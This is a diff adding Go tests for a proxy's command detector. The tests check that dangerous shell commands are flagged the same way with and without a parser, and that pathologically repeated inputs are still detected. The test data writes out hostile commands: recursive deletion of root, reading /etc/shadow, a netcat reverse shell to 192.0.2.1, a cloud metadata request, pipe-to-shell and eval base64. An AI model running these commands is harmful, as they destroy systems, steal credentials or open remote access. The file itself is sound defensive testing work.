@@ -1,0 +1,51 @@
+package detect_test
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/rulewind/rulewind/proxy/detect"
+)
+
+// TestPlainCommandsReadAlike holds the short way of reading commands of plain words
+// against the parser, which a comment at the end forces.
+func TestPlainCommandsReadAlike(t *testing.T) {
+	for _, cmd := range []string{
+		"rm -rf /", "  rm   -r -f /etc ", "sudo rm -rf /usr", "busybox rm -rf /", "cat /etc/shadow", "cat a ../../../etc/shadow b",
+		"time rm -rf /", "export PATH", "declare -x a", "coproc rm -rf /", "exec rm -rf /",
+		"curl http://169.254.169.254/latest", "ping 10.0.0.1", "nc -e /bin/sh 192.0.2.1 4444", "chmod -R 777 /", "git push --force origin main",
+		"docker run -v /:/host -it alpine sh", "ssh host rm -rf /", "env -S rm", "npm install left-pad", "history -c", "ls", "",
+	} {
+		want := detect.Commands | detect.Paths | detect.Egress
+		plain := detect.Find(nil, arg("run", "command", cmd), want)
+		parsed := detect.Find(nil, arg("run", "command", cmd+" # {}"), want)
+		if !slices.Equal(plain, parsed) {
+			t.Errorf("%q: read without the parser %+v, with it %+v", cmd, plain, parsed)
+		}
+	}
+}
+
+// TestWordsAreReadOnce feeds words whose readings once multiplied: it ends only if
+// they don't.
+func TestWordsAreReadOnce(t *testing.T) {
+	tests := []struct {
+		name, text, kind string
+	}{
+		{"separators", "cat " + strings.Repeat("a=b:", 200) + "/etc/shadow", "credential-read"},
+		{"stages", "cat /etc/shadow" + strings.Repeat(" | sh", 6000), "pipe-to-shell"},
+		{"variables", "a=" + strings.Repeat("x", 1000) + "; echo " + strings.Repeat("$a", 6000) + "; rm -rf /", "destructive-delete"},
+		{"substitutions", "rm -rf /; echo " + strings.Repeat("{a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v,w,x}$(echo ", 5) + "x" + strings.Repeat(")", 5), "destructive-delete"},
+		{"one line", "rm -rf / " + strings.Repeat("eval base64 .ssh/ process.env a=b:c ", 4000), "destructive-delete"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			for _, f := range detect.Find(nil, arg("run", "command", tt.text), detect.Commands|detect.Paths|detect.Egress) {
+				if f.Kind == tt.kind {
+					return
+				}
+			}
+			t.Errorf("%s not found", tt.kind)
+		})
+	}
+}
